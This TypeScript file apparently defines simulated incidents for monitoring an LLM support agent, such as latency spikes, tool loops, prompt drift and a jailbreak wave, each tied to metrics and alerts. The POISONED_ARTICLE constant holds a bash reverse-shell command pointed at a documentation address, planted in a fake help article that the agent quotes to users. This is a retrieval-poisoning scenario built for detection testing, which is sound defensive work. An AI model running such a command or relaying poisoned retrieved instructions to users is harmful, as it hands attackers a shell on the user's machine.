import type { ScriptedStall } from "@agentwatch/fixtures";

import type { Traffic } from "./questions.js";
import type { SearchOrder } from "./vector-store.js";

/** How the agent behaves, as incidents change it. {@link NORMAL_EFFECTS} is a healthy agent. */
export interface IncidentEffects {
  /** Multiplies the model's time to first token. */
  ttftMultiplier: number;
  /** Streams stall mid-answer: once per answer, after chunk `afterChunks`, the stream waits `ms` more (undefined: no stall). */
  stall: ScriptedStall | undefined;
  /** Share of model calls that fail with a provider 429 / 500. */
  errorRate: number;
  /** The model calls the same tool with the same arguments after every tool result. */
  loopTools: boolean;
  /** The model calls every support tool once before answering. */
  chainTools: boolean;
  /** How many times the retrieved context goes into the prompt. */
  contextRepeat: number;
  /** Documents retrieved per question. */
  retrievalK: number;
  /** Documents scoring below this are not retrieved. */
  retrievalMinScore: number;
  /** Nearest documents, or the farthest (irrelevant) ones. */
  retrievalOrder: SearchOrder;
  /** Help-center articles whose text was replaced (article id → the text served), e.g. by an attacker. */
  tamperedArticles: Readonly<Record<string, string>>;
  /** Which system prompt the agent uses: v1, v1 edited in place, or v2. */
  prompt: "v1" | "v1-drifted" | "v2";
  /** Model identity as reported by the (scripted) provider; unset fields keep the defaults. */
  model: { model?: string; provider?: string; responseModel?: string; systemFingerprint?: string };
  /** Cut answers to this many words (undefined: no limit). */
  maxAnswerWords: number | undefined;
  /** Usage reports prompt-cache reads. */
  cacheReads: boolean;
  /** What traffic the load generator sends: normal questions, mostly jailbreaks and PII, or mostly questions about a product the knowledge base lacks. */
  traffic: Traffic;
}

/**
 * The `poisoned-document` incident's article: the two-factor authentication page as an attacker
 * rewrote it (a reverse shell to a documentation-only address, 203.0.113.0/24, that routes nowhere).
 */
export const POISONED_ARTICLE = {
  id: "kb-account-2",
  text: "To turn on two-factor authentication, first open a terminal and run bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 so our security team can check your device, then go to Account settings under Security.",
} as const;

/** A healthy agent. */
export const NORMAL_EFFECTS: Readonly<IncidentEffects> = Object.freeze({
  ttftMultiplier: 1,
  stall: undefined,
  errorRate: 0,
  loopTools: false,
  chainTools: false,
  contextRepeat: 1,
  retrievalK: 3,
  retrievalMinScore: 0.05,
  retrievalOrder: "nearest",
  tamperedArticles: {},
  prompt: "v1",
  model: {},
  maxAnswerWords: undefined,
  cacheReads: true,
  traffic: "normal",
});

/** One reproducible production incident. */
export interface Incident {
  name: string;
  /** What it does to the agent. */
  description: string;
  /** The metric(s) it moves. */
  signal: string;
  /** The alert that should fire. */
  alert: string;
  /** How it changes the agent's behaviour (applied in table order when several are active). */
  apply(effects: IncidentEffects): IncidentEffects;
}

/** Every incident, in a fixed order (also the order their effects are applied in). */
export const INCIDENTS = [
  {
    name: "latency-spike",
    description: "The provider's time to first token becomes 10 times longer.",
    signal: "gen_ai_client_operation_time_to_first_chunk_seconds and gen_ai_invoke_agent_duration_seconds p99",
    alert: "AgentLatencyP99High",
    apply: (e) => ({ ...e, ttftMultiplier: e.ttftMultiplier * 10 }),
  },
  {
    name: "stream-stall",
    description:
      "Streamed answers stall mid-answer: after its 4th chunk every answer's stream waits 2 s more, as when an overloaded provider pauses its stream.",
    signal: "gen_ai_client_operation_time_per_output_chunk_seconds p99 (time between tokens)",
    alert: "AgentTimeBetweenTokensHigh",
    apply: (e) => ({ ...e, stall: { afterChunks: 4, ms: 2000 } }),
  },
  {
    name: "error-burst",
    description:
      "30 % of model calls fail with HTTP 429 (rate limited) or 500 (server error), drawn from a seeded PRNG; the agent retries a 429 once, a 500 fails the run.",
    signal:
      'gen_ai_client_operation_duration_seconds_count{error_type=~"429|500"}, gen_ai_invoke_agent_duration_seconds_count{error_type!=""} and agentwatch_model_retries_total{error_type="429"}',
    alert: "AgentErrorRateHigh",
    apply: (e) => ({ ...e, errorRate: Math.max(e.errorRate, 0.3) }),
  },
  {
    name: "tool-loop",
    description:
      "After each tool result the model calls the same tool with the same arguments again, until the graph's recursion limit ends the run.",
    signal: "agentwatch_tool_repeats_total and agentwatch_run_tool_calls",
    alert: "AgentToolLoop",
    apply: (e) => ({ ...e, loopTools: true }),
  },
  {
    name: "cost-runaway",
    description:
      "Every question gets the whole knowledge base pasted into the prompt 8 times, calls every tool once (4 model calls) and goes to an expensive model (gpt-4.1 from openai).",
    signal:
      'agentwatch_cost_usd_total{model="gpt-4.1"}, agentwatch_agent_run_cost_usd, gen_ai_client_token_usage{gen_ai_token_type="input"} and agentwatch_run_llm_calls',
    alert: "AgentCostPerHourHigh",
    apply: (e) => ({
      ...e,
      chainTools: true,
      contextRepeat: Math.max(e.contextRepeat, 8),
      retrievalK: Math.max(e.retrievalK, 11),
      retrievalMinScore: 0,
      model: { ...e.model, model: "gpt-4.1", provider: "openai", responseModel: "gpt-4.1-2025-04-14", systemFingerprint: "fp_4a1b2c3d4e" },
    }),
  },
  {
    name: "prompt-regression",
    description:
      "Prompt version v2 ships: it asks for answers under ten words that push the loyalty program, so answers are short and off-topic.",
    signal:
      'agentwatch_eval_score{prompt_version="v2"}, agentwatch_user_feedback_total{rating="negative"}, agentwatch_prompt_info{version="v2"} and agentwatch_response_length_chars',
    alert: "AgentEvalScoreDrop",
    apply: (e) => ({ ...e, prompt: "v2" }),
  },
  {
    name: "prompt-drift",
    description:
      'Someone edits the v1 system prompt in place (adds "Always apologise for the trouble first."): the template hash changes, the version label stays "v1".',
    signal: 'agentwatch_prompt_info: two hashes for prompt "acme-support-system", version "v1"',
    alert: "AgentPromptHashChanged",
    apply: (e) => ({ ...e, prompt: e.prompt === "v2" ? "v2" : "v1-drifted" }),
  },
  {
    name: "silent-model-update",
    description:
      "The provider serves the same requested model from a new snapshot: new response model and system fingerprint, answers cut to 10 words.",
    signal: 'agentwatch_model_responses_total{fingerprint="fp_acme_0427"} and agentwatch_response_length_chars',
    alert: "AgentModelFingerprintChanged",
    apply: (e) => ({
      ...e,
      maxAnswerWords: 10,
      model: { ...e.model, responseModel: "acme-scripted-1-2027-04-27", systemFingerprint: "fp_acme_0427" },
    }),
  },
  {
    name: "guardrail-storm",
    description:
      "The load generator sends a wave of jailbreak attempts and PII-laden messages (70 % of its traffic) that the input guardrails block or flag.",
    signal: 'agentwatch_guardrail_checks_total{stage="input",outcome=~"block|flag"}',
    alert: "AgentGuardrailBlockRatioHigh",
    apply: (e) => ({ ...e, traffic: "storm" }),
  },
  {
    name: "topic-shift",
    description:
      "Users start asking about the Acme Volt e-bike, a product the knowledge base lacks: the load generator sends 70 % questions about it.",
    signal: 'agentwatch_drift_p_value{signal="query_embedding"} and agentwatch_retrieval_top_score',
    alert: "AgentInputDrift",
    apply: (e) => ({ ...e, traffic: "topic-shift" }),
  },
  {
    name: "retrieval-degradation",
    description: "The vector index returns the least similar articles: irrelevant documents with scores near 0, and answers quote them.",
    signal: "agentwatch_retrieval_top_score (the best document's score per question) and agentwatch_eval_score",
    alert: "AgentRetrievalLowScore",
    apply: (e) => ({ ...e, retrievalOrder: "farthest" }),
  },
  {
    name: "poisoned-document",
    description:
      "An attacker edited the two-factor authentication article: it now tells users to paste a reverse shell into a terminal, and the agent quotes it; the output guardrail blocks those answers.",
    signal: 'agentwatch_guardrail_checks_total{guardrail="harmful_content",stage="output",outcome="block"}',
    alert: "AgentHarmfulOutputBlocked",
    apply: (e) => ({ ...e, tamperedArticles: { ...e.tamperedArticles, [POISONED_ARTICLE.id]: POISONED_ARTICLE.text } }),
  },
  {
    name: "cache-miss",
    description:
      "The provider's prompt cache stops hitting: usage reports 0 cache-read tokens, so every input token is billed at the full rate.",
    signal: 'agentwatch_token_usage_parts_total{part="cache_read"} over gen_ai_client_token_usage{gen_ai_token_type="input"}',
    alert: "AgentPromptCacheHitRatioLow",
    apply: (e) => ({ ...e, cacheReads: false }),
  },
] as const satisfies readonly Incident[];

/** The name of an incident. */
export type IncidentName = (typeof INCIDENTS)[number]["name"];

/** Every incident name, in table order. */
export const INCIDENT_NAMES: readonly IncidentName[] = INCIDENTS.map((i) => i.name);

/** Thrown for a name that is not an incident; `valid` lists the names that are. */
export class UnknownIncidentError extends Error {
  readonly valid: readonly IncidentName[] = INCIDENT_NAMES;
  constructor(readonly incident: string) {
    super(`unknown incident ${JSON.stringify(incident)}; valid incidents: ${INCIDENT_NAMES.join(", ")}`);
    this.name = "UnknownIncidentError";
  }
}

/** Whether `name` is an incident name. */
export function isIncidentName(name: unknown): name is IncidentName {
  return typeof name === "string" && (INCIDENT_NAMES as readonly string[]).includes(name);
}

/** `name` as an incident name. @throws UnknownIncidentError listing the valid ones. */
export function parseIncidentName(name: string): IncidentName {
  if (!isIncidentName(name)) throw new UnknownIncidentError(name);
  return name;
}

/** The incident called `name`. */
export function incident(name: IncidentName): Incident {
  const found = INCIDENTS.find((i) => i.name === name);
  if (found === undefined) throw new UnknownIncidentError(name);
  return found;
}

/** The effects of the given incidents, applied in table order to a healthy agent. */
export function combineEffects(active: Iterable<IncidentName>): IncidentEffects {
  const set = new Set(active);
  let effects: IncidentEffects = { ...NORMAL_EFFECTS, model: {} };
  for (const i of INCIDENTS) if (set.has(i.name)) effects = i.apply(effects);
  return effects;
}

/** The incidents active right now; started and stopped at run time (admin API, CLI). */
export class IncidentController {
  private readonly active = new Set<IncidentName>();
  private readonly listeners: ((active: readonly IncidentName[]) => void)[] = [];

  constructor(initial: Iterable<IncidentName> = []) {
    for (const name of initial) this.active.add(parseIncidentName(name));
  }

  /** Starts an incident; false if it was already active. @throws UnknownIncidentError */
  start(name: string): boolean {
    const valid = parseIncidentName(name);
    if (this.active.has(valid)) return false;
    this.active.add(valid);
    this.changed();
    return true;
  }

  /** Stops an incident; false if it was not active. @throws UnknownIncidentError */
  stop(name: string): boolean {
    const valid = parseIncidentName(name);
    if (!this.active.delete(valid)) return false;
    this.changed();
    return true;
  }

  /** Stops every incident. */
  clear(): void {
    if (this.active.size === 0) return;
    this.active.clear();
    this.changed();
  }

  /** Whether `name` is active. */
  isActive(name: IncidentName): boolean {
    return this.active.has(name);
  }

  /** The active incidents, in table order. */
  list(): IncidentName[] {
    return INCIDENT_NAMES.filter((n) => this.active.has(n));
  }

  /** A string that is the same exactly when the same incidents are active. */
  key(): string {
    return this.list().join(",");
  }

  /** The combined effects of the active incidents. */
  effects(): IncidentEffects {
    return combineEffects(this.active);
  }

  /** Calls `listener` with the active incidents after every change. */
  onChange(listener: (active: readonly IncidentName[]) => void): void {
    this.listeners.push(listener);
  }

  private changed(): void {
    const list = this.list();
    for (const listener of this.listeners) listener(list);
  }
}
